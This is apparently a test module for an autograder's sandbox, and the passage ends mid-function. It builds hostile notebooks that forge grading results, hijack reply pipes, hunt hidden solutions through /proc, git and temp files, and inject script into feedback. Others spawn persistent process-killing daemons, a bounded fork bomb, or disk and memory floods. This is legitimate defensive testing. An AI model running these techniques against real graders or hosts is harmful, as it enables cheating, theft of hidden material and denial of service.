"""Hostile submissions for the grader: students who want the points, the hidden tests, or
to stop the batch.

Each builder returns a real notebook (a dict, written with ``build.write``) made from the
instructor's solution or the generated student version, with the student's code replaced
or extended by an attack. The attack code runs inside the grading kernel; everything it
needs to know about the test run (a unique marker, the paths a worst-case student could
guess, the port of a listener) is passed in ``Ctx`` and baked into the notebook as JSON.

Every attack is bounded: processes it starts end by themselves within about two minutes,
loops stop after a few seconds, files are capped, and anything that kills or disturbs
other processes only touches processes whose command line or working directory lies
inside this test run's own temporary directories (``Ctx.grader_tmp``, ``Ctx.batch_root``),
so that a sandbox that fails cannot harm anything else on the machine.

``ATTACKS`` lists them with their class (numbered as in the issue) and the exercise they
target; ``MALFORMED`` lists the files that try to stop the batch (class 6), each written by
a function because some are not notebooks at all (a FIFO, a symlink to /dev/zero, a
non-UTF-8 file name).
"""

from __future__ import annotations

import copy
import json
import os
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

from tests.grading_cases import build as B

ROOT = B.ROOT


def solution(ex: str) -> Path:
    return next((ROOT / "solutions").glob(f"{ex}_*.ipynb"))


def exercise(ex: str) -> Path:
    return next((ROOT / "exercises").glob(f"{ex}_*.ipynb"))


@dataclass
class Ctx:
    """What the attacks of one test run may know (a worst-case student who guessed it all)."""

    marker: str  # unique per run: in argv of leftover processes, names of leftover files
    batch_root: Path  # the submissions of this run live below it
    grader_tmp: Path  # TMPDIR of the grader processes of this run
    tcp_port: int = 0
    unix_path: str = ""
    abstract_name: str = ""
    ipc_key: int = 0
    ipc_size: int = 0
    known_paths: list[str] = field(default_factory=list)

    def params(self, **extra) -> dict:
        d = {"marker": self.marker, "batch_root": str(self.batch_root), "grader_tmp": str(self.grader_tmp),
             "tcp_port": self.tcp_port, "unix_path": self.unix_path, "abstract_name": self.abstract_name,
             "ipc_key": self.ipc_key, "ipc_size": self.ipc_size, "known_paths": list(self.known_paths)}
        d.update(extra)
        return d


def _with_params(code: str, params: dict) -> str:
    return f"import json as _json\n_P = _json.loads({json.dumps(json.dumps(params))})\n" + code


def _append_cell(nb: dict, source: str) -> dict:
    """A cell the student added at the very end of the notebook (it runs after every answer cell)."""
    nb = copy.deepcopy(nb)
    nb["cells"].append(B.code_cell(source))
    return nb


def _prepend_cell(nb: dict, after_gid: str, source: str) -> dict:
    return B.insert_after(nb, after_gid, source)


# ------------------------------------------------------------------ kernel-side helpers
#: reading another process's command line and working directory (the attacks and the daemon share it)
PROC = r'''
def _cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as fh:
            return fh.read().replace(b"\0", b" ").decode("utf-8", "replace")
    except OSError:
        return ""

def _cwd(pid):
    try:
        return os.readlink(f"/proc/{pid}/cwd")
    except OSError:
        return ""
'''

KLIB = r'''
import os, sys, json, gc, time, glob, re, zlib, subprocess, ctypes, threading, signal, socket

def _pipe_fds(writable):
    """Pipe and socket fds of this process open for writing (writable) or reading."""
    out = []
    for fd in range(0, 512):
        try:
            link = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if not (link.startswith("pipe:") or link.startswith("socket:")):
            continue
        try:
            with open(f"/proc/self/fdinfo/{fd}") as fh:
                flags = int([l for l in fh if l.startswith("flags:")][0].split()[1], 8)
        except Exception:
            continue
        acc = flags & 3
        if link.startswith("socket:") or acc == 2 or (acc == 1) == bool(writable):
            out.append(fd)
    return out

def _request_ids():
    """Ids of the request being answered: from the runner's frames, then from live objects."""
    ids = []
    f = sys._getframe(1)
    while f is not None:
        for key, v in list(f.f_locals.items()):
            if key in ("rid", "request_id", "req_id", "rid_", "msg_id") and isinstance(v, (str, int)):
                ids.append(v)
            if isinstance(v, dict) and "id" in v and isinstance(v.get("id"), (str, int)) and (
                    "op" in v or "fn" in v or "kind" in v or "type" in v):
                ids.append(v["id"])
        f = f.f_back
    if not ids:
        try:
            for o in gc.get_objects():
                if isinstance(o, dict) and isinstance(o.get("id"), (str, int)) and o.get("op") in ("call", "exec"):
                    ids.append(o["id"])
        except Exception:
            pass
    seen, out = set(), []
    for i in ids:
        if i not in seen and i != "ready":
            seen.add(i)
            out.append(i)
    return out

def _forge(status="stored", value=None, message="", extra=None):
    """Write a forged answer for the current request to every pipe the kernel can write to."""
    n = 0
    for rid in _request_ids()[:3]:
        obj = {"id": rid, "status": status, "value": value, "message": message}
        obj.update(extra or {})
        line = (json.dumps(obj) + "\n").encode()
        for fd in _pipe_fds(True):
            if fd in (1, 2):
                pass
            try:
                os.write(fd, line)
                n += 1
            except OSError:
                pass
    return n

def _write_raw(data):
    n = 0
    for fd in _pipe_fds(True):
        try:
            view = memoryview(data)
            while view:
                k = os.write(fd, view)
                view = view[k:]
            n += 1
        except OSError:
            pass
    return n

''' + PROC + r'''
def _ours(pid):
    """A process of this test run (never anything else on the machine)."""
    cmd, cwd = _cmdline(pid), _cwd(pid)
    return any(p and (p in cmd or cwd.startswith(p)) for p in (_P["grader_tmp"], _P["batch_root"]))

def _libc():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.prctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_ulong, ctypes.c_ulong, ctypes.c_ulong]
    return libc
'''


def _kernel_code(code: str, params: dict) -> str:
    return _with_params(KLIB + code, params)


# ------------------------------------------------------------------ class 1: forged results
FORGE_PATCH = r'''
# Patch the grading library inside the kernel: every call "stores", every judge passes, and the
# runner's own locals (call, reply) are replaced through the frame of its main loop.
import importlib, types
try:
    import course.grade
    mods = [m for n, m in list(sys.modules.items()) if n.startswith("course.grade") and m is not None]
    for m in mods:
        for name in ("Outcome",):
            real = getattr(m, name, None)
            if isinstance(real, type):
                class Forged(real):
                    def __init__(self, status="stored", value=None, message="", *a, **k):
                        try:
                            super().__init__("stored", None, "")
                        except Exception:
                            pass
                        self.status, self.value, self.message = "stored", None, ""
                setattr(m, name, Forged)
        for name in ("judge",):
            if callable(getattr(m, name, None)):
                setattr(m, name, lambda *a, **k: (True, ""))
        for name in ("compare",):
            if callable(getattr(m, name, None)):
                setattr(m, name, lambda *a, **k: None)
except Exception:
    pass

def _forged_call(*a, **k):
    try:
        from course.grade.calls import Outcome
        return Outcome("stored")
    except Exception:
        class O:
            status, value, message = "stored", None, ""
            def to_json(self):
                return {"status": "stored", "value": None, "message": ""}
        return O()

def _wrap_reply(real):
    def reply(obj, *a, **k):
        if isinstance(obj, dict) and obj.get("id") not in (None, "ready") and obj.get("status") not in ("ok",):
            obj = {**obj, "status": "stored", "message": ""}
        return real(obj, *a, **k)
    return reply

try:
    f = sys._getframe()
    while f is not None:
        changed = False
        for key in list(f.f_locals):
            v = f.f_locals[key]
            if key in ("call", "call_function", "run_call") and callable(v):
                f.f_locals[key] = _forged_call
                changed = True
            if key in ("reply", "send", "respond", "answer", "write_reply") and callable(v):
                f.f_locals[key] = _wrap_reply(v)
                changed = True
        if changed:
            ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(f), ctypes.c_int(0))
        f = f.f_back
except Exception:
    pass
'''

FORGE_PIPE_FUNCS = r'''
# Each function writes a forged answer for the running request straight into the reply pipe,
# then behaves like the stub: the forged line arrives first.
def _forge_then_fail():
    _forge("stored")
    _forge("ok", None, "", {"status": "stored"})
    raise NotImplementedError()

def {name}(*args, **kwargs):
    _forge_then_fail()
'''

FORGE_THREAD = r'''
# Take over the protocol: a thread reads the grader's requests instead of the runner and answers
# every call with "stored" (every cell with "ok"); the runner is left reading an empty pipe.
def _takeover():
    fds = [fd for fd in _pipe_fds(False) if fd != 0] or [0]
    src = fds[0]
    orig = os.dup(src)
    r, w = os.pipe()
    os.dup2(r, src)        # the runner now reads from a pipe nobody writes to
    outs = [fd for fd in _pipe_fds(True) if fd not in (1, 2, w)]
    buf = b""
    end = time.time() + 110
    while time.time() < end:
        try:
            chunk = os.read(orig, 1 << 16)
        except OSError:
            return
        if not chunk:
            return
        buf += chunk
        while b"\n" in buf:
            line, buf = buf.split(b"\n", 1)
            try:
                req = json.loads(line)
            except ValueError:
                continue
            if not isinstance(req, dict):
                continue
            status = "stored" if req.get("op") not in ("exec",) else "ok"
            ans = (json.dumps({"id": req.get("id"), "status": status, "value": None, "message": ""}) + "\n").encode()
            for fd in outs:
                try:
                    os.write(fd, ans)
                except OSError:
                    pass

threading.Thread(target=_takeover, daemon=True).start()
time.sleep(0.2)
'''


def forge_patch(ctx: Ctx, ex: str = "ex01") -> dict:
    return _append_cell(B.load(exercise(ex)), _kernel_code(FORGE_PATCH, ctx.params()))


def forge_pipe(ctx: Ctx) -> dict:
    answers = {n: _kernel_code(FORGE_PIPE_FUNCS.replace("{name}", n), ctx.params()) for n in B.CORRECT}
    return B.with_answers(answers, base=B.EXERCISE)


def forge_thread(ctx: Ctx, ex: str = "ex01") -> dict:
    return _append_cell(B.load(exercise(ex)), _kernel_code(FORGE_THREAD, ctx.params()))


# ------------------------------------------------------------------ class 2: reading what must stay hidden
SPY = r'''
# Look for the instructor's solutions (or any text that must stay hidden) through one channel,
# run whatever solution code is found, and put what was read into an exception message.
_T0 = time.time()
_FOUND = []
_SOLMARK = "### BEGIN " + "SOLUTION"
_HIDMARK = "### BEGIN " + "HIDDEN TESTS"
_CANARY = re.compile("CANARY" + r"-[A-Za-z]+-[0-9a-f]{8,}")
_INSTALLED = []

def _budget():
    return time.time() - _T0 < 6.0

def _install(text):
    try:
        nb = json.loads(text)
        cells = [c["source"] if isinstance(c["source"], str) else "".join(c["source"])
                 for c in nb["cells"] if c.get("cell_type") == "code"]
    except Exception:
        cells = [text]
    for src in cells:
        if "def " in src and "NotImplementedError()" not in src and "check(" not in src:
            try:
                exec(src, globals())
                _INSTALLED.append(1)
            except BaseException:
                pass

def _look(data, where=""):
    if isinstance(data, bytes):
        data = data.decode("utf-8", "replace")
    for m in _CANARY.findall(data)[:5]:
        _FOUND.append(m)
    if _HIDMARK in data:
        i = data.index(_HIDMARK)
        _FOUND.append("HIDDEN " + " ".join(data[i:i + 400].split())[:200])
    if _SOLMARK in data and _P["function"] in data:
        _install(data)

def _read(path, limit=4 << 20):
    try:
        if os.path.isfile(path) and os.path.getsize(path) <= limit:
            with open(path, "rb") as fh:
                _look(fh.read(), path)
    except Exception:
        pass

def _mount_paths():
    out = set()
    try:
        with open("/proc/self/mountinfo") as fh:
            for line in fh:
                parts = line.split()
                for p in (parts[3], parts[4]):
                    p = p.encode().decode("unicode_escape")
                    if p not in ("/",):
                        out.add(p)
    except Exception:
        pass
    return out

def _roots():
    r = set(_P.get("known_paths", []))
    starts = [sys.prefix, sys.exec_prefix, getattr(sys, "base_prefix", ""), os.path.dirname(sys.executable),
              os.getcwd(), os.path.expanduser("~")] + list(sys.path)
    try:
        import course
        starts.append(os.path.dirname(os.path.dirname(course.__file__)))
    except Exception:
        pass
    for sp in list(sys.path):
        for f in glob.glob(os.path.join(sp, "__editable__*")) + glob.glob(os.path.join(sp, "*.pth")):
            try:
                starts += re.findall(r"(/[A-Za-z0-9_./-]+)", open(f).read())
            except Exception:
                pass
    try:
        starts.append(os.path.realpath("/proc/self/exe"))
    except Exception:
        pass
    for p in starts:
        p = str(p)
        for _ in range(5):
            if p.count("/") >= 2:   # never "/" or a top-level directory
                r.add(p)
            p = os.path.dirname(p)
    return r

def v_repo():
    for root in _roots():
        for pat in ("solutions/*.ipynb", "*.ipynb", "*/*.ipynb", "*/solutions/*.ipynb", "course/../solutions/*"):
            for f in glob.glob(os.path.join(root, pat))[:200]:
                if _budget():
                    _read(f)

def v_git():
    rel = "solutions/" + _P["notebook"]
    for root in _roots():
        g = os.path.join(root, ".git")
        if not os.path.exists(g) or not _budget():
            continue
        for rev in ("HEAD", "HEAD~1", "HEAD~5"):
            try:
                out = subprocess.run(["git", "-c", "safe.directory=*", "--git-dir", g, "show", f"{rev}:{rel}"],
                                     capture_output=True, timeout=5, env={**os.environ, "HOME": os.getcwd()})
                _look(out.stdout)
            except Exception:
                pass
        n = 0
        for obj in glob.glob(os.path.join(g, "objects", "??", "*")):
            if n > 3000 or not _budget():
                break
            n += 1
            try:
                with open(obj, "rb") as fh:
                    data = zlib.decompress(fh.read())
                if b"BEGIN" in data:
                    _look(data)
            except Exception:
                pass

def _walk(root, depth, names=None, limit=20000):
    n = 0
    base = root.rstrip("/").count("/")
    for dirpath, dirs, files in os.walk(root):
        if dirpath.count("/") - base >= depth:
            dirs[:] = []
        for f in files:
            n += 1
            if n > limit or not _budget():
                return
            if names is None or any(re.fullmatch(p, f) for p in names):
                _read(os.path.join(dirpath, f))

def v_checkpoints():
    dirs = {os.path.dirname(p) for p in _mount_paths()} | set(_P.get("known_paths", []))
    for d in dirs:
        for f in glob.glob(os.path.join(d, ".ipynb_checkpoints", "*")) + glob.glob(
                os.path.join(d, "*", ".ipynb_checkpoints", "*")):
            _read(f)

def v_neighbours():
    dirs = {os.path.dirname(os.path.dirname(p)) for p in _mount_paths()} | set(_P.get("known_paths", []))
    for d in dirs:
        if d.count("/") >= 2:
            _walk(d, 3)

def v_reports():
    for top in ("/tmp", "/var/tmp"):
        _walk(top, 6, names=[r".*\.json", r".*\.csv", r".*\.md", r".*\.txt"], limit=30000)

def v_env():
    _look(" ".join(f"{k}={v}" for k, v in os.environ.items()))
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for what in ("environ", "cmdline"):
                _read(f"/proc/{pid}/{what}")

def v_proc():
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid() or not _budget():
            continue
        cmd = _cmdline(pid)
        _look(cmd)
        _read(f"/proc/{pid}/environ")
        for sol in glob.glob(f"/proc/{pid}/root" + _P["solutions"] + "/*.ipynb"):
            _read(sol)
        for sol in glob.glob(f"/proc/{pid}/cwd/solutions/*.ipynb"):
            _read(sol)
        for fd in glob.glob(f"/proc/{pid}/fd/*"):
            try:
                if os.path.isfile(fd):
                    _read(fd)
            except Exception:
                pass

for _v in _P["vectors"]:
    try:
        globals()["v_" + _v]()
    except Exception:
        pass

if _FOUND:
    _LEAK = ("LEAK " + " | ".join(_FOUND))[:290]

    def {function}(*args, **kwargs):
        raise RuntimeError(_LEAK)
'''


def spy(ctx: Ctx, vectors: list[str], ex: str = "ex01", leak_fn: str | None = None) -> dict:
    """The student version of ``ex`` plus a last cell that looks for hidden text through ``vectors``."""
    leak_fn = leak_fn or {"ex01": "half_mse", "ex06": "best_line_accuracy", "ex07": "penalty"}[ex]
    function = {"ex01": "def forward", "ex06": "def perceptron_output", "ex07": "def dropout_forward"}[ex]
    params = ctx.params(vectors=vectors, notebook=solution(ex).name, function=function,
                        solutions=str(ROOT / "solutions"))
    return _append_cell(B.load(exercise(ex)), _kernel_code(SPY.replace("{function}", leak_fn), params))


STEAL = r'''
# Steal the requests of the other kernels of this run: read their stdin pipes through /proc, so
# that their own runner never sees a request (only processes of this test run are touched).
def _drain(path):
    try:
        fd = os.open(path, os.O_RDONLY)
    except OSError:
        return
    end = time.time() + 60
    while time.time() < end:
        try:
            if not os.read(fd, 1 << 16):
                return
        except OSError:
            return

def _steal():
    end = time.time() + 60
    done = set()
    while time.time() < end:
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) != os.getpid() and pid not in done and _ours(pid):
                done.add(pid)
                for fd in os.listdir(f"/proc/{pid}/fd") if os.path.isdir(f"/proc/{pid}/fd") else []:
                    try:
                        if not os.readlink(f"/proc/{pid}/fd/{fd}").startswith("pipe:"):
                            continue
                        with open(f"/proc/{pid}/fdinfo/{fd}") as fh:
                            flags = int([l for l in fh if l.startswith("flags:")][0].split()[1], 8)
                    except (OSError, IndexError, ValueError):
                        continue
                    if flags & 3 == 0:      # a read end: the kernel's requests
                        threading.Thread(target=_drain, args=(f"/proc/{pid}/fd/{fd}",), daemon=True).start()
        time.sleep(0.05)

threading.Thread(target=_steal, daemon=True).start()
time.sleep(9)      # stay alive while the neighbours are graded
'''


def steal(ctx: Ctx) -> dict:
    return _prepend_cell(B.load(B.EXERCISE), "setup", _kernel_code(STEAL, ctx.params()))


# ------------------------------------------------------------------ class 3: leaks through feedback
FEEDBACK_INJECT = r'''
_EVIL = ("<img src=x onerror=alert(1)>INJECTED " + "`" * 3
         + "\n# INJECTED-HEADING\n<script>alert('INJECTED')</script>\n"
         "[click](http://evil.example/INJECTED) " + "A" * 2000)
Evil = type("Evil<b>INJECTED</b>" + "E" * 2000, (Exception,), {})

class Weird:
    pass
Weird.__name__ = Weird.__qualname__ = "<script>INJECTED</script>" + "W" * 2000

def sigma(z, name):
    raise Evil(_EVIL)

def layer(a_prev, W, b, name):
    raise ValueError("\n".join(["## INJECTED-H2 " + "B" * 60] * 40))

def forward(x, weights, biases, activation, output_activation=None):
    return Weird()

def half_mse(y_hat, y):
    _forge("error", None, _EVIL)
    _forge("not_implemented", None, _EVIL)
    raise NotImplementedError(_EVIL)

raise Evil(_EVIL)    # and the cell itself fails with it
'''


def feedback_inject(ctx: Ctx) -> dict:
    return _append_cell(B.load(B.EXERCISE), _kernel_code(FEEDBACK_INJECT, ctx.params()))


HIDDEN_ECHO = r'''
import numpy as np

def _nums(objs):
    out = []
    for a in objs:
        try:
            out += [repr(float(x)) for x in np.ravel(np.asarray(a, dtype=float))[:3]]
        except Exception:
            if isinstance(a, (list, tuple)):
                out.append(_nums(a))
    return " ".join(out)

def sigma(z, name):
    raise ValueError("inputs " + _nums([z]) + " " + str(name))

def layer(a_prev, W, b, name):
    return np.zeros((7, 7, 7))

def forward(x, weights, biases, activation, output_activation=None):
    raise ValueError("inputs " + _nums([x, weights, biases]))

def half_mse(y_hat, y):
    return 12345.678
'''


def hidden_echo(ctx: Ctx) -> dict:
    return _append_cell(B.load(B.EXERCISE), _kernel_code(HIDDEN_ECHO, ctx.params()))


# ------------------------------------------------------------------ class 4: outliving the grader
PERSIST_SETSID = r'''
# fork, setsid, no parent-death signal, double fork, exec a long sleep whose argv carries the marker
# (the sleep keeps every inherited fd, the kernel's pipes included)
def _spawn(argv):
    pid = os.fork()
    if pid:
        try:
            os.waitpid(pid, 0)
        except OSError:
            pass
        return
    try:
        os.setsid()
        _libc().prctl(1, 0, 0, 0, 0)        # PR_SET_PDEATHSIG 0
        if os.fork():
            os._exit(0)
        os.execv(argv[0], argv)
    finally:
        os._exit(0)

_spawn(["/bin/sleep", "sleep-" + _P["marker"], "100"])
_spawn(["/usr/bin/timeout", "100", "/bin/sleep", "sleep2-" + _P["marker"], "100"])
'''

DAEMON = r'''
import os, sys, time, json, signal
P = json.loads(sys.argv[2])
end = time.time() + 100
time.sleep(2)
''' + PROC + r'''
while time.time() < end:
    for d in ("/tmp/", "/dev/shm/", "/var/tmp/"):
        try:
            with open(d + P["marker"] + "-daemon-alive", "w") as fh:
                fh.write(str(time.time()))
        except OSError:
            pass
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        cmd, cwd = _cmdline(pid), _cwd(pid)
        ours = P["grader_tmp"] in cmd or cwd.startswith(P["grader_tmp"])
        if ours and P["marker"] not in cmd:
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
    time.sleep(0.2)
'''

PERSIST_DAEMON = r'''
# a classic daemon: double fork, setsid, fds closed, then a new python whose argv carries the marker;
# it writes files for 100 s and kills the kernels of later batches of this test run
_daemon_code = __DAEMON__
pid = os.fork()
if pid == 0:
    try:
        os.setsid()
        _libc().prctl(1, 0, 0, 0, 0)
        if os.fork():
            os._exit(0)
        os.closerange(3, 4096)
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.execv(sys.executable, [sys.executable, "-c", _daemon_code, "daemon-" + _P["marker"], json.dumps(_P)])
    finally:
        os._exit(0)
os.waitpid(pid, 0)
'''

PERSIST_IPC = r'''
# SysV shared memory (512 MiB, 16 MiB touched), a semaphore set and a message queue with keys of this
# run, a private segment of a size unique to this run, and POSIX shared memory / files in /dev/shm, /tmp
libc = _libc()
libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
IPC_CREAT = 0o1000
key, size = _P["ipc_key"], _P["ipc_size"]
shmid = libc.shmget(key, size, IPC_CREAT | 0o600)
if shmid >= 0:
    addr = libc.shmat(shmid, None, 0)
    if addr not in (None, ctypes.c_void_p(-1).value):
        ctypes.memset(addr, 1, 16 << 20)
libc.shmget(0, size + 4096, IPC_CREAT | 0o600)
libc.semget(key + 1, 1, IPC_CREAT | 0o600)
libc.msgget(key + 2, IPC_CREAT | 0o600)
for path, mb in (("/dev/shm/" + _P["marker"] + "-posix", 32), ("/tmp/" + _P["marker"] + "-tmp", 1),
                 ("/var/tmp/" + _P["marker"] + "-vartmp", 1), (os.path.join(os.path.dirname(os.getcwd()),
                  _P["marker"] + "-next-to-scratch"), 1), (_P["grader_tmp"] + "/" + _P["marker"] + "-grader-tmp", 1)):
    try:
        with open(path, "wb") as fh:
            fh.write(b"x" * (mb << 20))
    except OSError:
        pass
'''


def persist(ctx: Ctx, kind: str) -> dict:
    code = {"setsid": PERSIST_SETSID, "daemon": PERSIST_DAEMON.replace("__DAEMON__", repr(DAEMON)),
            "ipc": PERSIST_IPC}[kind]
    return _prepend_cell(B.load(B.EXERCISE), "setup", _kernel_code(code, ctx.params()))


# ------------------------------------------------------------------ class 5: resources
BUSY = r'''
# 32 busy processes (each ends by itself after 90 s), argv with the marker
for i in range(32):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            os.execv("/usr/bin/timeout", ["/usr/bin/timeout", "90", "/bin/sh", "-c", "while :; do :; done",
                                          "spin-" + _P["marker"]])
        finally:
            os._exit(0)
'''

FORK_TREE = r'''
# a fork bomb bounded by depth: every process forks two children down to depth 8 (511 processes),
# then sleeps 90 s under an argv with the marker
def _tree(depth):
    for _ in range(2):
        if depth >= 8:
            break
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            _tree(depth + 1)
            try:
                os.execv("/bin/sleep", ["bomb-" + _P["marker"], "90"])
            finally:
                os._exit(0)
pid = os.fork()
if pid == 0:
    try:
        _tree(0)
    finally:
        os._exit(0)
'''

THREADS = r'''
def _spin():
    end = time.time() + 30
    while time.time() < end:
        pass
for i in range(300):
    try:
        threading.Thread(target=_spin, daemon=True).start()
    except RuntimeError:
        break
'''

DISK = r'''
# fill the scratch directory: 64 MiB files until ENOSPC (or 2.5 GiB), 20000 small files, one huge sparse file
def _fill():
    block = b"\xff" * (1 << 20)
    total = 0
    for i in range(40):
        try:
            with open(f"fill-{i}.bin", "wb") as fh:
                for _ in range(64):
                    fh.write(block)
                    total += 1
        except OSError:
            break
    os.makedirs("many", exist_ok=True)
    for i in range(20000):
        try:
            with open(f"many/{i}", "w") as fh:
                fh.write("x")
        except OSError:
            break
    try:
        with open("sparse.bin", "wb") as fh:
            fh.seek(1 << 40)
            fh.write(b"x")
    except OSError:
        pass
_fill()
'''

DISK_FN = r'''
def half_mse(y_hat, y):
    """How many MiB this kernel could write (it shows as the 'got' value of the failed test)."""
    total = 0
    for dirpath, dirs, files in os.walk("."):
        for f in files:
            try:
                total += os.stat(os.path.join(dirpath, f)).st_blocks * 512
            except OSError:
                pass
    return float(total >> 20)
'''

MEMORY = r'''
# four children each touch 768 MiB and keep it for 20 s
for i in range(4):
    pid = os.fork()
    if pid == 0:
        try:
            import numpy as np
            a = np.ones(768 << 17)     # 768 MiB of float64
            time.sleep(20)
        finally:
            os._exit(0)
'''

STDOUT = r'''
# a gigabyte of output: print, writes to fds 1 and 2, and garbage on the reply pipe
chunk = "x" * (1 << 20)
for i in range(400):
    try:
        print(chunk)
    except Exception:
        break
for fd in (1, 2):
    for i in range(300):
        try:
            os.write(fd, chunk.encode())
        except OSError:
            break
_write_raw(b"not json at all " * 1000 + b"\n")
_write_raw(b"{" * 1000000 + b"\n")
'''

TARPIT = r'''
import time as _time

def _slow(*a, **k):
    _time.sleep(9.0)       # just under the 10 s timeout, every call
    raise NotImplementedError()

sigma = layer = forward = half_mse = _slow
'''

CLOSE_PIPES = r'''
# close every pipe and point fds 0, 1, 2 at /dev/null: the kernel cannot answer any more
null = os.open(os.devnull, os.O_RDWR)
for fd in _pipe_fds(True) + _pipe_fds(False):
    try:
        os.close(fd)
    except OSError:
        pass
for fd in (0, 1, 2):
    os.dup2(null, fd)
'''

SIGNALS = r'''
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.alarm(1)

def half_mse(y_hat, y):
    os.kill(os.getpid(), signal.SIGSTOP)
'''

RECURSION = r'''
sys.setrecursionlimit(10 ** 7)
try:
    threading.stack_size(64 << 20)
except Exception:
    pass

def forward(x, weights, biases, activation, output_activation=None):
    def deep(n):
        return deep(n + 1) + 1
    return deep(0)
'''


def resource(ctx: Ctx, kind: str) -> dict:
    base = B.load(B.EXERCISE)
    if kind == "disk":
        nb = _prepend_cell(base, "setup", _kernel_code(DISK, ctx.params()))
        return _replace_answers(nb, {"half_mse": _kernel_code(DISK_FN, ctx.params())})
    if kind == "tarpit":
        return _append_cell(base, TARPIT)
    code = {"busy": BUSY, "fork_tree": FORK_TREE, "threads": THREADS, "memory": MEMORY, "stdout": STDOUT,
            "close_pipes": CLOSE_PIPES, "signals": SIGNALS, "recursion": RECURSION}[kind]
    if kind in ("signals", "recursion"):
        return _append_cell(base, _kernel_code(code, ctx.params()))
    return _prepend_cell(base, "setup", _kernel_code(code, ctx.params()))


def _replace_answers(nb: dict, answers: dict[str, str]) -> dict:
    nb = copy.deepcopy(nb)
    for cell in nb["cells"]:
        if B.gid(cell) in answers:
            cell["source"] = answers[B.gid(cell)]
    return nb


# ------------------------------------------------------------------ class 7: NaN where a threshold decides
NAN_EX07 = '''
def dropout_forward(a, p, u):
    a = np.asarray(a, dtype=float)
    return np.full(a.shape, np.nan), np.full(a.shape, np.nan)


def dropout_backward(grad, mask):
    return np.full(np.shape(grad), np.nan)
'''

NAN_EX04 = '''
def predict(model, x):
    return np.full(np.shape(np.ravel(x)), np.nan)
'''

NAN_EX04_TRAIN = '''
def train(seed=0, hidden=(32, 32), learning_rate=0.01, max_epochs=3000, patience=200):
    return None, {"train_loss": [float("nan")], "val_loss": [float("nan")], "best_epoch": float("nan")}
'''


def nan_ex07(ctx: Ctx) -> dict:
    return _replace_answers(B.load(exercise("ex07")), {"dropout": NAN_EX07})


def nan_ex04(ctx: Ctx) -> dict:
    return _replace_answers(B.load(exercise("ex04")), {"predict": NAN_EX04, "train": NAN_EX04_TRAIN})


# ------------------------------------------------------------------ class 8: delegation to forbidden modules
DELEGATE = '''
import course
import course.activations
import course.mlp


def sigma(z, name):
    return course.activations.get(name).f(np.asarray(z, dtype=float))


def layer(a_prev, W, b, name):
    z = np.asarray(a_prev, dtype=float) @ np.asarray(W, dtype=float).T
    if b is not None:
        z = z + np.asarray(b, dtype=float)
    return sigma(z, name)


def forward(x, weights, biases, activation, output_activation=None):
    net = course.MLP.from_weights(weights, biases, activation=activation,
                                  output_activation=output_activation or activation)
    return net.forward(x)
'''

HALF_MSE_OK = '''
def half_mse(y_hat, y):
    y_hat = np.asarray(y_hat, dtype=float)
    y = np.asarray(y, dtype=float)
    if y_hat.ndim == 1:
        y_hat = y_hat[:, None]
    y = y.reshape(y_hat.shape)
    return 0.5 * np.sum((y - y_hat) ** 2) / y_hat.shape[0]
'''

BYPASS = r'''
# get course.activations / course.mlp back although the exercise forbids them
import importlib, importlib.util, importlib.machinery, types
_MODS = {}

def _candidates(mod):
    dirs = []
    try:
        import course
        dirs += list(getattr(course, "__path__", []))
    except BaseException:
        pass
    for sp in list(sys.path):
        dirs.append(os.path.join(sp, "course"))
        for f in glob.glob(os.path.join(sp, "__editable__*")) + glob.glob(os.path.join(sp, "*.pth")):
            try:
                dirs += [os.path.join(p, "course") for p in re.findall(r"(/[A-Za-z0-9_./-]+)", open(f).read())]
                dirs += re.findall(r"(/[A-Za-z0-9_./-]+/course)\b", open(f).read())
            except Exception:
                pass
    p = sys.prefix
    for _ in range(3):
        p = os.path.dirname(p)
        dirs.append(os.path.join(p, "course"))
    dirs += [os.path.join(k, "course") for k in _P.get("known_paths", [])]
    out = []
    for d in dirs:
        if _P["how"] == "pyc":
            out += glob.glob(os.path.join(d, "__pycache__", mod + ".*.pyc"))
        else:
            out.append(os.path.join(d, mod + ".py"))
    return [f for f in dict.fromkeys(out) if os.path.isfile(f)]

def _real(text):
    return "is not available" not in text and len(text) > 2000

def _load(mod):
    full = "course." + mod
    for f in _candidates(mod):
        try:
            if f.endswith(".pyc"):
                loader = importlib.machinery.SourcelessFileLoader(full, f)
            else:
                if not _real(open(f, encoding="utf-8", errors="replace").read()):
                    continue
                loader = importlib.machinery.SourceFileLoader(full, f)
            spec = importlib.util.spec_from_loader(full, loader, origin=f)
            m = importlib.util.module_from_spec(spec)
            m.__file__ = f
            sys.modules[full] = m
            loader.exec_module(m)
            return m
        except BaseException:
            sys.modules.pop(full, None)
    return None

def _meta_games(mod):
    # drop every import hook that is not the standard one, forget the stubs, put the repository first
    std = ("_frozen", "importlib", "_distutils", "__editable__")
    sys.meta_path[:] = [f for f in sys.meta_path if getattr(f, "__module__", "").startswith(std)
                        or f in (importlib.machinery.PathFinder, importlib.machinery.BuiltinImporter,
                                 importlib.machinery.FrozenImporter)]
    for name in list(sys.modules):
        if name == "course" or name.startswith("course.") and not name.startswith("course.grade"):
            sys.modules.pop(name, None)
    roots = [os.path.dirname(os.path.dirname(f)) for f in _candidates("__init__")]
    for r in roots[::-1]:
        sys.path.insert(0, r)
    importlib.invalidate_caches()
    try:
        return importlib.import_module("course." + mod)
    except BaseException:
        return None

def _git(mod):
